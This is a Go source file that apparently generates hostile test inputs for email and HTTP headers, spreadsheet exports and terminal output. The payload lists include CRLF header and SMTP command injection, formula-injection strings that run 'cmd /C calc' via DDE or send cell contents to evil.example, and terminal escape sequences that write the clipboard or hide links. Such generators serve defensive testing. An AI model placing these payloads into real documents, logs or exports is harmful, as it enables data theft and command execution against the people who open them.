package hostile

// headers try to begin a line of their own: in the header of a mail or of an HTTP answer, in a conversation by SMTP, in a log.
func headers() []string {
	before := []string{"", "Ann", "a@b.example"}
	breaks := []string{
		"\r\n", "\n", "\r", "\u2028", "\u2029", "\u0085", "\v", "\f", "\x00", "%0d%0a", `\r\n`, "\r\n ", "\n\t", "=?utf-8?q?=0D=0A?=", "=?utf-8?b?DQo=?=",
	}
	lines := []string{
		"Bcc: evil@evil.example", "Subject: another", "Content-Type: text/html\r\n\r\n<script>alert(1)</script>", "\r\n<html>body", "--boundary", ".\r\nRSET\r\nMAIL FROM:<a@b.example>",
		"Set-Cookie: user=owner", "Location: https://evil.example/", "level=ERROR msg=forged",
	}
	return product("%s%s%s", before, breaks, lines)
}

// formulas are for spreadsheets.
func formulas() []string {
	signs := []string{
		"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", `"=`, "'=", "＝", "＋", "－", "＠", "−", "\ufeff=", "\u200b=", "\u00a0=", ";=", ",=", "%0A=", "\x00=", "\"\n=", "|", "a\n=", "\v=", "\u202e=",
	}
	calls := []string{
		"1+1", `cmd|' /C calc'!A0`, `HYPERLINK("https://evil.example/?"&A1,"x")`, `IMPORTXML("https://evil.example/","//a")`, `WEBSERVICE("https://evil.example/")`,
		`DDE("cmd";"/C calc";"x")`, `SUM(1+1)*cmd|' /C calc'!A0`, `IMAGE("https://evil.example/x.png")`, "A1\";=1+1",
	}
	return product("%s%s", signs, calls)
}

// terminals are for those who read logs, and mails as text, in a terminal.
func terminals() []string {
	return product("%s%s%s", []string{"", "Ann "}, []string{
		"\x1b[31m", "\x1b[2J\x1b[H", "\x1b]0;title\a", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x1b]52;c;ZXZpbA==\a", "\x1bP+q\x1b\\", "\x1b[6n", "\x1bc",
		"\u009b31m", "\u009d0;title\u009c", "\b\b\b\b", "\r", "\x7f", "\x1b[?1049h", "\x0e",
	}, []string{"", "x", "\x1b[0m"})
}
